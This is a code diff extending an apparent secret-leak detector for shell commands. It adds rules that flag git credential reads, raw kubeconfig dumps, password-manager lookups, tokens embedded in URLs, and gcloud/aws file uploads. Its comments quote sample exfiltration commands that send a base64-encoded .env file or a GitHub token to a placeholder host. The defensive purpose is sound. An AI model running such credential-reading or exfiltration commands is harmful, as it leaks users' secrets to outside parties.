@@ -52,6 +52,7 @@ _VENDORS = {"GITHUB": "github", "GH": "github", "GITLAB": "gitlab", "OPENAI": "o
             "TWILIO": "twilio", "SENDGRID": "sendgrid", "MISTRAL": "mistral", "GROQ": "groq", "DEEPSEEK": "deepseek",
             "FIRECRAWL": "firecrawl", "TAVILY": "tavily", "EXA": "exa", "BRAVE": "brave", "JIRA": "atlassian",
             "CIRCLECI": "circleci", "HEROKU": "heroku", "LINEAR": "linear", "NOTION": "notion"}
+_GIT_SECRET_KEY = lazy(r"credential|token|password|secret|extraheader|\burl\b", re.I)
 _HOST = lazy(r"[a-zA-Z][\w+.-]*://(?:[^@/\s]*@)?([^/:?#\s]+)")
 
 
@@ -78,7 +79,14 @@ def prints_secret(u: Unwrapped) -> bool:
     if name in ("docker", "podman") and args[:1] in (["inspect"], ["container"]):  # each container's environment
         return "inspect" in args[:2]
     if name in ("kubectl", "oc"):
-        return args[:1] == ["get"] and any(a in ("secret", "secrets") or a.startswith("secret/") for a in args[1:3])
+        return args[:1] == ["get"] and any(a in ("secret", "secrets") or a.startswith("secret/") for a in args[1:3]) or \
+            args[:2] == ["config", "view"] and ("--raw" in args or "--flatten" in args)
+    if name == "git":  # the credential helper's answer; settings that hold tokens (credential.*, extraheader, URLs)
+        return args[:2] == ["credential", "fill"] or args[:1] == ["credential-fill"] or args[:1] == ["config"] and (
+            any(a in ("-l", "--list", "list") for a in args[1:3]) or any(a.startswith("--get") or a == "get" for a in args)
+            and any(_GIT_SECRET_KEY.search(a) for a in args[1:]))
+    if name in ("op", "bw", "secret-tool", "gopass", "heroku", "doctl"):  # password managers, platform tokens
+        return args[:1] in (["read"], ["get"], ["lookup"], ["show"], ["auth:token"]) or args[:2] in (["item", "get"], ["auth", "token"])
     if name == "vault":
         return args[:1] == ["read"] or args[:2] == ["kv", "get"]
     return False
@@ -171,6 +179,10 @@ class LeakChecks:
             # secret file contents in its own arguments leave with it (npm view --registry http://H/$(base64 .env)/)
             if any("@secret" in sub_traits.get(id(w), ()) for w in u.words if w is not None):
                 self.add(*EXFILTRATION)
+            in_url = [v for w, a in zip(u.words, u.args, strict=False) if w is not None and _HOST.search(a)
+                      for v in _VAR_REF.findall(w.text) if v in refs]  # xdg-open "https://h/?t=$GITHUB_TOKEN"
+            if in_url and not all(_meant_for(v, u.args) for v in in_url):
+                self.add(*EXFILTRATION)
             cmd.sends = True  # and what a pipe feeds it (cat .env | npm ...)
         if u.name in ("cat", "tac", "head", "tail", "xxd", "base64", "od") and env.tainted and any(
                 _holds(self.path(a, env), env.tainted) for a in u.args if not a.startswith("-")):
@@ -260,6 +272,10 @@ def _cloud_uploads(u: Unwrapped) -> list[str]:
         return [opts[i + 1] for i, a in enumerate(opts[:-1]) if a in ("-f", "--file", "--source", "-s")]
     if u.name == "gh" and args[:2] == ["gist", "create"]:
         return args[2:]
+    if u.name == "gcloud" and args[:1] == ["storage"] and args[1:2] in (["cp"], ["mv"], ["rsync"]) and "://" in args[-1]:
+        return [a for a in args[2:-1] if "://" not in a]
+    if u.name == "aws" and any(a.startswith(("file://", "fileb://")) for a in u.args):  # any parameter's value
+        return [a.split("://", 1)[1] for a in u.args if a.startswith(("file://", "fileb://"))]
     if u.name == "gh" and args[:2] == ["release", "upload"]:
         return args[3:]
     return []
